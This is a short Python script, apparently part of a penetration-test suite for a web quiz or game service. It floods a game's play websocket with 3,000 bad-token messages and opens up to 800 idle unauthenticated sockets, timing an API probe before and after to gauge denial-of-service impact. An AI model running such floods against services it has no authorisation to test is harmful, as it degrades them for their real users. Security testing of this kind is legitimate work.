from lib import *
import websocket, threading, socket
st = json.load(open("./state.json"))
WS = BASE.replace("http","ws"); PIN = st["game"]["pin"]
def probe(tag):
    t0=time.time(); r=requests.get(BASE+"/api/v1/sources"); dt=time.time()-t0
    print(f"   probe {tag}: {r.status_code} {dt*1000:.0f}ms"); return dt
probe("before")
# 1. flood one socket with bad tokens (each is a DB lookup?)
w = websocket.create_connection(f"{WS}/ws/play/{PIN}", timeout=5)
t0=time.time(); n=0
try:
    for i in range(3000):
        w.send("bad-token-%d" % i); n+=1
except Exception as e: print("   flood stopped:", repr(e)[:100])
print(f"   sent {n} bad-token messages in {time.time()-t0:.1f}s")
probe("after flood")
# 2. many idle unauthenticated sockets
socks=[]
t0=time.time()
for i in range(800):
    try: socks.append(websocket.create_connection(f"{WS}/ws/play/{PIN}", timeout=5))
    except Exception as e: print("   open failed at", i, repr(e)[:120]); break
print(f"   opened {len(socks)} tokenless play sockets in {time.time()-t0:.1f}s")
probe("with idle sockets")
time.sleep(5)
alive = 0
for s in socks:
    try: s.ping(); alive+=1
    except Exception: pass
print("   still open after 5s:", alive)
for s in socks:
    try: s.close()
    except: pass
LOG.append({"name":"WS flood 3000 bad tokens + 800 idle tokenless sockets","curl":"python3 wsflood.py"}); COUNT[0]+=2
dump("./log-wsflood.json")
